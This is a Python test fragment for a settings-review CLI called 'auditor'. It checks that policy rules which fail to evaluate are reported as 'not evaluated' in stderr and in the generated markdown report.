    argv = ["review", "p.json", "--against", "live.json", "--policy", "err.yaml"]
    code, _, stderr = run_cli([*argv, "--author", PERSON, "--out", "r"], env={}, cwd=tmp_path)
    assert code == 2, stderr
    lines = [ln for ln in stderr.splitlines() if ln.startswith("auditor: not evaluated: ")]
    assert [ln.split(": evaluation error: ")[0] for ln in lines] == [
        "auditor: not evaluated: E-1 on the proposed settings file p.json",
        "auditor: not evaluated: E-2 on the change from live.json to the proposed file p.json",
    ], stderr
    md = (tmp_path / "r" / "report.md").read_text(encoding="utf-8")
    assert "> - E-1 on the proposed settings file p.json: evaluation error: " in md
    assert "revision" not in stderr
